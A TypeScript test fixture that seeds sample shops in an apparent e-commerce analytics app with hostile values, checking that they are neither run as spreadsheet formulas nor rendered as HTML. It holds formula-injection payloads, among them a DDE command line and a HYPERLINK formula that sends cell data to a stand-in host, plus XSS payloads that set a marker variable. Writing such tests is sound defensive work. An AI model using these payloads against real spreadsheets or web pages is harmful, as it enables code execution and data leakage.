import { eachDay } from '../../shared/calendar.ts'
import type { openTestCore } from './core.ts'
import { fileOf, FIXTURES } from './exports/index.ts'
import { sampleFiles, sampleTruth } from './simulator/index.ts'
import { importFiles, saveCosts, saveRules } from './whole-shop.ts'

/** Cells that a spreadsheet would run as a formula. */
export const FORMULAS = [
  '=HYPERLINK("http://zg.invalid/?"&A1,"看详情")',
  "=cmd|' /C calc'!A0",
  '+1+zgRun("x")',
  '-2+3+zgRun("x")',
  '@SUM(1+1)*zgRun("x")',
  '＝1+zgRun("x")',
] as const

/** Cells that a page would run, or make elements of, if it took them for HTML. Each would set `window.zgRan`. */
export const MARKUP = [
  '<script>window.zgRan=1</script>',
  '<img src=zg onerror="window.zgRan=2">',
  '"><svg/onload=window.zgRan=3>',
  `" onmouseover="window.zgRan=4" data-zg="`,
  `' autofocus onfocus='window.zgRan=5' data-zg='`,
  '</title></style></textarea><iframe srcdoc="<script>parent.zgRan=6</script>"></iframe>',
  'javascript:window.zgRan=7',
  '{{constructor.constructor("window.zgRan=8")()}}${window.zgRan=8}',
  '<a href="javascript:window.zgRan=9" id=zg>领券</a>',
] as const

const HOSTILE = [...FORMULAS, ...MARKUP]

/** The sample shops with such texts wherever an export or the seller can put any. */
export async function openHostileShop(opened: ReturnType<typeof openTestCore>): Promise<void> {
  let next = 0
  const hostile = () => HOSTILE[next++ % HOSTILE.length] ?? ''
  const truth = sampleTruth()
  for (const product of truth.products) {
    product.title = `${hostile()}${product.title}`
    for (const sku of product.skus) {
      sku.spec = `${hostile()}${sku.spec}`
      if (sku.code !== '') sku.code = `${hostile()}${sku.code}`
    }
  }
  for (const order of truth.orders) if (order.channel !== null) order.channel = hostile()
  const files = sampleFiles(truth).map((file, index) => ({
    ...file,
    // A slash would be a folder.
    name: `${(MARKUP[index % 2] ?? '').replaceAll('/', '')}${file.name}`,
  }))
  await importFiles(opened, files)
  await importFiles(opened, [adReport(hostile), stockReport(truth.products.flatMap(({ skus }) => skus))])
  const { client } = opened
  for (const [index, { id }] of (await client.shops.list()).entries())
    await client.shops.rename({ id, name: `${HOSTILE[index % HOSTILE.length]}店` })
  await saveCosts(opened)
  await saveRules(opened)
}

function fixture(format: string) {
  const found = FIXTURES.find((one) => one.format === format)
  if (found === undefined) throw new RangeError(`no fixture of ${format}`)
  return found
}

function adReport(hostile: () => string) {
  const report = fixture('taobao.wujie-scene')
  const rows = eachDay('2026-10-01', '2026-10-31').map((day) => ({ ...report.rows[0], 日期: day, 场景名字: hostile() }))
  return fileOf({ ...report, rows })
}

function stockReport(skus: readonly { code: string }[]) {
  const rows = skus
    .filter(({ code }) => code !== '')
    .map(({ code }) => ({ 商品编码: code, 仓库: MARKUP[0], 在仓库存数: '500', 可售库存: '500', 采购在途数: '0' }))
  return fileOf({ ...fixture('other.replenishment'), name: '库存_20261031_180000.xlsx', rows, below: [] })
}
